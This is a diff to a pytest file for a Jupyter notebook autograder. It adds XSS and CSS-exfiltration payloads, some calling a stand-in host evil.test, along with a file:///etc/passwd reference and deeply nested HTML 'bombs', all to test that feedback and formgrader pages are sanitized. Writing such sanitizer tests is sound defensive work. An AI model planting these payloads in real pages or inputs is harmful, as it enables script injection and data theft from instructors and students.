@@ -4,16 +4,20 @@ from __future__ import annotations
 
 import json
 import re
+import time
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
 import pytest
+from nbconvert.exporters import HTMLExporter
 from nbgrader.converters.base import NbGraderException
+from nbgrader.server_extensions.formgrader import handlers
+from traitlets.config import Config
 
 from autograder.marking import feedback
 from autograder.marking.course import Course, NoSuchThing
-from autograder.marking.feedback import clean_html, write_feedback
+from autograder.marking.feedback import FILTERS, clean_html, markdown_to_html, write_feedback
 from autograder.marking.gradebook import open_book
 from autograder.marking.restore import restore, to_notebook
 from autograder.marking.results import Result
@@ -49,14 +53,24 @@ MARKUP = {
     "a half tag": f"<img src=x onerror={ALERT}",
     "a comment": f"<!--><img src=x onerror={ALERT}>--><!--[if IE]><script>{ALERT}</script>",
     "a closing quote": f'"><img src=x onerror={ALERT}><x y="',
+    "a link in other letters": f'<a href="java&#115;cript&colon;{ALERT}">x</a><a href="&#1;javascript:{ALERT}">',
+    "a picture of markup": f'<img src="data:image/svg+xml,<svg onload={ALERT}>"><img src="data:text/html,x">',
+    "a reference in a picture": f'<svg><use href="//evil.test/x.svg#a"/><a xlink:href="javascript:{ALERT}">x',
+    "a link in mathematics": f'<math href="javascript:{ALERT}"><mi>x</mi></math>',
+    "an event of a list": f"<details open ontoggle={ALERT}><summary onfocus={ALERT} tabindex=1>x",
+    "an event that moves": f"<marquee onstart={ALERT}>x</marquee><p style='animation:x' onanimationend={ALERT}>",
+    "styles that spy": "<style>input[value^=a]{background:url(//evil.test/a)}</style>"
+    "<p style='content:url(//evil.test)'>",
+    "a style with a rule in it": "<p style=\"color:red;}body{background:url('//evil.test')}\">x</p>",
+    "a style that runs": f"<p style='width:expression({ALERT})'><p style='-moz-binding:url(//evil.test)'>",
+    "what is fetched ahead": "<link rel=prefetch href=//evil.test><link rel=dns-prefetch href=//evil.test>",
+    "mathematics that runs": f"$\\href{{javascript:{ALERT}}}{{x}}$ $\\require{{html}}\\style{{position:fixed}}{{x}}$",
     "the course's files": '<img src="../../../gradebook.db"><img src="file:///etc/passwd">',
 }
 
 
 class _Page(HTMLParser):
     """What in a page could run, load or cover."""
-
-    VOID_OF_HARM = frozenset(("class", "id", "title", "alt", "role", "lang", "name", "content"))
 
     def __init__(self, text: str) -> None:
         super().__init__()
@@ -109,7 +123,47 @@ def test_the_page_is_looked_at_closely_enough():
         "a style",
         "a script in capitals",
         "mathematics",
+        "mathematics that runs",  # which only MathJax understands
+        "a style that runs",
+        "styles that spy",
+        "a picture of markup",
+        "a link in other letters",
     }
+
+
+BOMBS = {
+    "nested": "<div>" * 200_000,
+    "nested and badly closed": "<div></x>" * 200_000,
+    "bold": "<p><b>" * 100_000,
+    "tables": "<table><tr><td>" * 50_000,
+    "rows": "<table>" + "<tr><td>" * 100_000,
+    "paragraphs": "<p>" * 300_000,
+    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
+    "long": "x" * 20_000_000,
+}
+
+
+@pytest.mark.parametrize("name", BOMBS)
+def test_markup_that_takes_long_is_not_shown(name):
+    """Is a text refused at once that would take minutes to clean?"""
+    start = time.monotonic()
+    assert "too large or too deeply nested" in clean_html(BOMBS[name])
+    assert time.monotonic() - start < 10
+
+
+def test_much_that_is_harmless_is_shown():
+    """Are a long table and a page of paragraphs kept?"""
+    table = f"<table>{'<tr><td>1</td><td>2</td></tr>' * 2000}</table>{'<p>a<li>b' * 500}"
+    assert clean_html(table).count("<td>") == 4000
+
+
+@pytest.mark.parametrize("piece", ["[", "![](", "\\begin{a}", "> ", "- ", "*a ", "$$", "|a", "-\n"])
+def test_text_that_takes_long_is_shown_as_it_is(piece):
+    """Is a very long markdown text not rendered, and a long one in a reasonable time?"""
+    start = time.monotonic()
+    markdown_to_html({}, piece * (20_000 // len(piece)))
+    assert "<pre>" in markdown_to_html({}, piece * 2_000_000)
+    assert time.monotonic() - start < 20
 
 
 def _outputs(text: str) -> list[dict[str, Any]]:
@@ -138,6 +192,21 @@ def page(root: Path, released: dict[str, Any], tmp_path_factory: pytest.TempPath
     """A feedback page of a submission that tries all of it, in every place there is."""
     klass = tmp_path_factory.mktemp("class")
     (klass / "secret.txt").write_text("SECRET MARKS")
+    marked = _hostile(released)
+    folder = klass / "autograded" / "mallory" / ASSIGNMENT
+    folder.mkdir(parents=True)
+    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(marked), encoding="utf-8")
+    course = Course(root, klass)
+    with open_book(course) as book:
+        book.add_assignment(ASSIGNMENT)
+        (klass / "submitted" / "mallory" / ASSIGNMENT).mkdir(parents=True)
+        book.record([Result("mallory", ASSIGNMENT)])
+    (path,) = write_feedback(course, ASSIGNMENT, ["mallory"])
+    return path.read_text(encoding="utf-8")
+
+
+def _hostile(released: dict[str, Any]) -> dict[str, Any]:
+    """Return a marked notebook with all of it, as outputs and as text."""
     notebook = paper(released)
     for text in MARKUP.values():
         notebook["cells"] += [own(text), own(text, "markdown"), own(text, "raw")]
@@ -154,17 +223,7 @@ def page(root: Path, released: dict[str, Any], tmp_path_factory: pytest.TempPath
     parts, _ = restore(released, tuple(cells))
     everything = [_output(output) for text in MARKUP.values() for output in _outputs(text)]
     outputs = [everything if part.name == "setup" else [] for part in parts]
-    marked = to_notebook(released, parts, outputs)
-    folder = klass / "autograded" / "mallory" / ASSIGNMENT
-    folder.mkdir(parents=True)
-    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(marked), encoding="utf-8")
-    course = Course(root, klass)
-    with open_book(course) as book:
-        book.add_assignment(ASSIGNMENT)
-        (klass / "submitted" / "mallory" / ASSIGNMENT).mkdir(parents=True)
-        book.record([Result("mallory", ASSIGNMENT)])
-    (path,) = write_feedback(course, ASSIGNMENT, ["mallory"])
-    return path.read_text(encoding="utf-8")
+    return to_notebook(released, parts, outputs)
 
 
 def test_only_what_a_page_can_show_is_kept():
@@ -217,3 +276,36 @@ def test_no_file_of_the_course_gets_into_the_page(page):
     """Does a picture that points at a file leave the file's content out?"""
     assert "SECRET MARKS" not in page
     assert "U0VDUkVUIE1BUktT" not in page  # the same in base 64
+
+
+def test_mathematics_is_shown_by_the_safe_mathjax(page):
+    """Does the page load MathJax with its filter for links and styles, and no other?"""
+    (script,) = re.findall(r'src="([^"]*mathjax[^"]*)"', page)
+    assert script.endswith(",Safe")
+
+
+def test_the_formgrader_shows_nothing_that_runs(root, released, tmp_path):
+    """Is the page clean that an instructor opens, with all rights, to mark by hand?"""
+    course = Course(root, tmp_path)
+    config = Config(course.config)  # as nbgrader's FormgradeExtension adds to it
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    path = tmp_path / f"{ASSIGNMENT}.ipynb"
+    path.write_text(json.dumps(_hostile(released)), encoding="utf-8")
+    names = ("assignment_id", "notebook_id", "submission_id", "base_url", "student", "keyword")
+    resources = dict.fromkeys(names, "x") | {
+        "index": 0,
+        "total": 1,
+        "last_name": "",
+        "first_name": "",
+    }
+    html, _ = HTMLExporter(config=config).from_filename(str(path), resources=resources)
+    assert {bad for bad in _Page(html).bad if "toggle_name" not in bad} == set()  # nbgrader's own
+    assert "sigmoid" in html
+
+
+def test_nbgrader_uses_the_same_filters(root):
+    """Does the configuration name the filters that feedback uses?"""
+    config = Course(root, root).config
+    assert config.HTMLExporter.filters == FILTERS
+    assert config.HTMLExporter.sanitize_html is True
